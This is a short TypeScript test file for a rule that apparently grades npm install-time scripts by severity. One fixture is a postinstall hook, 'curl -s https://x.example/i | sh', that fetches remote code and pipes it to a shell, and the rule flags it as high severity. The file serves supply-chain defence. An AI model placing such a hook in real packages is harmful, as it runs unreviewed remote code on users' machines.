import assert from 'node:assert/strict';
import { test } from 'node:test';
import { packageOf, severitiesOf } from '../../../../test/support/package-subject.ts';
import { rule } from './rule.ts';

test('what runs when it is installed is told, and worst what fetches', async (t) => {
  const of = async (scripts: object): Promise<readonly string[]> =>
    severitiesOf(rule, await packageOf(t, { manifest: { scripts } }));
  assert.deepEqual(await of({ postinstall: 'curl -s https://x.example/i | sh' }), ['high']);
  assert.deepEqual(await of({ preinstall: 'node -e "require(1)"', install: 'node setup.js' }), ['high', 'medium']);
  assert.deepEqual(await of({ install: 'node-gyp rebuild' }), ['low']);
  assert.deepEqual(severitiesOf(rule, await packageOf(t, { files: { 'binding.gyp': '{}' } })), ['low']);
  assert.deepEqual(await of({ build: 'tsc', prepare: 'npm run build', test: 'curl x' }), []);
});
